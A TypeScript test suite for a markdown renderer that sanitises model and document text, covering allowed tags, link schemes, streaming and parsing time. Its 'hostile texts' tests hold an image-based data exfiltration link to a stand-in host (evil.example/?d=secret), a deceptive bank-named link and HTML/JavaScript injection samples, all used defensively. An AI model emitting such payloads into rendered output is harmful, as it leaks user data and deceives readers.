// Hostile texts of models and documents only become text, safe links and our own elements.
import { beforeAll, describe, expect, test } from 'vitest'
import { VECTORS } from '../test/vectors.ts'
import { h } from './dom.ts'
import { markdown } from './markdown.ts'

const cite = (number: number) => (number <= 3 ? h('button', 'cite', String(number)) : undefined)
const rendered = (text: string, open = false) => h('div', '', ...markdown(text, open, cite))
const html = (text: string, open = false) =>
  rendered(text, open).innerHTML.replaceAll(/ (class|dir|title|target|rel|tabindex)="[^"]*"/g, '')

const ALLOWED =
  'P H3 H4 H5 H6 UL OL LI PRE CODE BLOCKQUOTE HR TABLE TR TH TD A EM STRONG S BR BUTTON SPAN DIV'.split(' ')
const ATTRIBUTES = ['class', 'dir', 'href', 'title', 'target', 'rel', 'tabindex', 'start', 'onclick']

function faultsOf(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const href = element.getAttribute('href')
    const names = [...element.attributes].map(({ name }) => name)
    return [
      ...(ALLOWED.includes(element.tagName) ? [] : [element.tagName]),
      ...names.filter((name) => !ATTRIBUTES.includes(name)),
      ...(href === null || (element.tagName === 'A' && /^(https?:\/\/[^\s]|mailto:)/.test(href))
        ? []
        : [href]),
      ...(element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer' ? ['rel'] : []),
    ]
  })
}

describe('hostile texts', () => {
  test.each(VECTORS)('%j', (vector) => {
    expect(faultsOf(rendered(vector))).toEqual([])
    expect(faultsOf(rendered(`Before.\n\n${vector}\n\nAfter.`))).toEqual([])
  })

  test('cut at every character while they stream', () => {
    for (const vector of VECTORS)
      for (let end = 1; end <= vector.length; end += 1)
        expect(faultsOf(rendered(vector.slice(0, end), true)), vector.slice(0, end)).toEqual([])
  })

  test('the check finds faults', () => {
    for (const bad of [
      '<img src=x>',
      '<a href="javascript:x" rel="noopener noreferrer">x</a>',
      '<p onmouseover="x">',
    ])
      expect(faultsOf(Object.assign(h('div', ''), { innerHTML: bad }))).not.toEqual([])
  })

  test('pictures and links of strangers load nothing and name their host', () => {
    expect(html('![a chart](https://evil.example/?d=secret)')).toBe(
      '<p><a href="https://evil.example/?d=secret">a chart (evil.example)</a></p>',
    )
    expect(rendered('[my bank.example](https://evil.example/x)').textContent).toBe(
      'my bank.example (evil.example)',
    )
    expect(rendered('[x](https://evil.example/x)').querySelector('a')?.title).toBe('evil.example')
  })
})

describe('time in proportion to the text', () => {
  const parts = [
    '*',
    '**',
    '_',
    '`',
    '``',
    '[',
    '![',
    '](',
    '](x',
    '|',
    '> ',
    '- ',
    '\n- ',
    '\n> ',
    '~~',
    '*a ',
    '**a ',
    '_a_',
    '[a](',
    '|a',
    '\n|a|',
    '\n|-',
    '1. ',
    '#',
    '\\',
    'a*',
    'https://',
    '<',
    '```\n',
    '[1',
    '(',
    '   ',
    '\t',
    '\n    ',
    '\n\n',
  ]
  let perCharacter = 0
  beforeAll(() => {
    const start = performance.now()
    rendered('Some words of an ordinary answer, with **bold** ones.\n\n'.repeat(360))
    perCharacter = (performance.now() - start) / 20_000
  })

  test.each(parts)('%j, many times', (part) => {
    for (const open of [false, true]) {
      const start = performance.now()
      rendered(part.repeat(Math.ceil(20_000 / part.length)), open)
      // The quadratic ones that this found took a minute.
      expect(performance.now() - start).toBeLessThan(Math.max(10_000, perCharacter * 20_000 * 60))
    }
  })
})

describe('marks', () => {
  test.each([
    ['one\ntwo\n\nthree', '<p>one<br>two</p><p>three</p>'],
    ['# A\n## B\n###### C', '<h3>A</h3><h4>B</h4><h6>C</h6>'],
    [
      '**bold** *it* ***both*** ~~gone~~ __b__ _i_',
      '<p><strong>bold</strong> <em>it</em> <strong><em>both</em></strong> <s>gone</s> <strong>b</strong> <em>i</em></p>',
    ],
    ['2 * 3 * 4, snake_case_name, **open', '<p>2 * 3 * 4, snake_case_name, **open</p>'],
    ['`a*b*` and ``x ` y``', '<p><code>a*b*</code> and <code>x ` y</code></p>'],
    [
      '- a\n  - b\n  - c\n- d\n\n  more',
      '<ul><li>a<ul><li>b</li><li>c</li></ul></li><li>d<p>more</p></li></ul>',
    ],
    ['3. x\n4. y', '<ol start="3"><li>x</li><li>y</li></ol>'],
    ['- a\n\n- b\n\nafter', '<ul><li>a</li><li>b</li></ul><p>after</p>'],
    ['> a\n> > b', '<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>'],
    ['```js\na <b>\n\n  c\n```\nafter', '<pre><code>a &lt;b&gt;\n\n  c</code></pre><p>after</p>'],
    ['~~~\nopen', '<pre><code>open</code></pre>'],
    ['a\n\n---\n\nb', '<p>a</p><hr><p>b</p>'],
    [
      '| a | b |\n|---|--:|\n| x | **1** |',
      '<table><tr><th>a</th><th>b</th></tr><tr><td>x</td><td><strong>1</strong></td></tr></table>',
    ],
    [
      '[x](https://a.example/b_(c)) <https://b.example> https://c.example/d.',
      '<p><a href="https://a.example/b_(c)">x</a> &lt;<a href="https://b.example/">https://b.example</a>&gt; <a href="https://c.example/d">https://c.example/d</a>.</p>',
    ],
    ['[mail](mailto:a@b.example) [no](/path) [no](#x)', '<p><a href="mailto:a@b.example">mail</a> no no</p>'],
    [
      'So it is. [1] Both [1, 2]. None [9].',
      '<p>So it is.<button>1</button> Both<button>1</button><button>2</button>. None [9].</p>',
    ],
    ['\\*no\\* \\[1\\]', '<p>*no* [1]</p>'],
    ['5 < 6 & "x" &amp; y', '<p>5 &lt; 6 &amp; "x" &amp;amp; y</p>'],
  ])('%j', (text, expected) => {
    expect(html(text)).toBe(expected)
  })

  test('what is open at the end of a streamed text looks finished', () => {
    expect(html('so **it is', true)).toBe('<p>so <strong>it is</strong></p>')
    expect(html('run `npm st', true)).toBe('<p>run <code>npm st</code></p>')
    expect(html('see [the pa', true)).toBe('<p>see</p>')
    expect(html('see [the page](https://a.exa', true)).toBe('<p>see</p>')
    expect(html('as said [1', true)).toBe('<p>as said</p>')
    expect(html('a\n-', true)).toBe('<p>a</p>')
    expect(html('| a | b |', true)).toBe('<table><tr><th>a</th><th>b</th></tr></table>')
    expect(html('| a | b |\n|--', true)).toContain('<table>')
  })
})
